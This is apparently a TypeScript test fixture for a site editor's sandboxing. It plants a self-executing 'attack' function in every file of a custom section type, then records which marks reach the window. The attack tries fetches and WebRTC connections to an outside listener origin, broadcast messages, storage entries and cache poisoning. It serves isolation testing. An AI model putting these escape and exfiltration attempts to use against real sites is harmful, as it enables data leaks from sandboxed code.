/** For tests: a section type of a site's own with hostile code in each of its files, and what the window sees of what that was let do. */
import { mkdirSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { componentOf, packageName, schemaOf } from '../project/own-site.ts';
import { poisonCaches } from './frame-tries.ts';
import type { PublishedSite } from './published-site.ts';

/** Origins: the editor's, and that of somebody who listens. */
interface Place {
  own: string;
  elsewhere: string;
}

/** Tries to leave its mark wherever the window sees it. Where a site is built it does nothing. */
function attack(file: string, { own, elsewhere }: Place, poison: (kind: string) => Promise<void>): void {
  if ('process' in globalThis) return;
  const marks = globalThis as unknown as { planted?: string[]; RTCPeerConnection?: typeof RTCPeerConnection };
  marks.planted = [...(marks.planted ?? []), file];
  for (const attempt of [
    () => fetch(`${own}/planted-${file}`),
    () => fetch(`${elsewhere}/planted-${file}`, { mode: 'no-cors' }),
    () => new BroadcastChannel('planted').postMessage(file),
    () => indexedDB.open(`planted ${file}`),
    () => caches.open(`planted ${file}`),
    () => poison('javascript'),
    () => {
      const urls = `stun:${new URL(elsewhere).host}`;
      const connection = new RTCPeerConnection({ iceServers: [{ urls }] });
      connection.createDataChannel('planted');
      return connection.createOffer().then((offer) => connection.setLocalDescription(offer));
    },
  ])
    new Promise((done) => done(attempt())).catch(() => {});
}

const planted = (file: string, place: Place) => `(${attack})('${file}', ${JSON.stringify(place)}, ${poisonCaches});`;

const said = "const said = { message: () => 'x', hint: () => 'x', explanation: 'x' };";

/** Commits a type `price-board` to a site, with the attack in its schema, a rule, its facts and its component. */
export function plantOwnType(site: PublishedSite, place: Place): void {
  const folder = 'sections/price-board';
  for (const [path, text] of [
    [`${folder}/schema.ts`, `${schemaOf()}\n${planted('schema', place)}`],
    [`${folder}/PriceBoard.tsx`, `${componentOf('PriceBoard')}\n${planted('component', place)}`],
    [
      `${folder}/facts.ts`,
      `${planted('facts', place)}\nexport const facts = () => {\n${planted('facts', place)}\nreturn [];\n};\n`,
    ],
    [
      `${folder}/checks/planted-rule.ts`,
      `${said}\nexport const rule = { severity: 'warning', *check() {\n${planted('rule', place)}\n}, de: said, en: said, example: { wrong: '1', right: '2' } };`,
    ],
    ['package.json', JSON.stringify({ private: true, dependencies: { [packageName]: '*' } })],
  ] as const) {
    mkdirSync(dirname(join(site.site, path)), { recursive: true });
    site.write(path, text);
  }
  site.git('add', '--all');
  site.git('commit', '--quiet', '-m', 'A type of our own');
  site.git('push', '--quiet', 'origin', 'main');
}

/** Before anything of a page runs: hears what is said to all of its origin. */
export function hearPlanted(): void {
  const heard: unknown[] = [];
  Object.assign(globalThis, { heard });
  new BroadcastChannel('planted').onmessage = ({ data }) => heard.push(data);
}

/** In the window: what bears a mark of the attack. */
export async function reached(): Promise<unknown[]> {
  const { heard, isPoisoned } = globalThis as unknown as { heard: unknown[]; isPoisoned?: 1 };
  const databases = (await indexedDB.databases()).map(({ name = '' }) => name);
  return [
    ...heard,
    ...[...databases, ...(await caches.keys())].filter((name) => name.includes('planted')),
    ...(isPoisoned ? ['window'] : []),
  ];
}
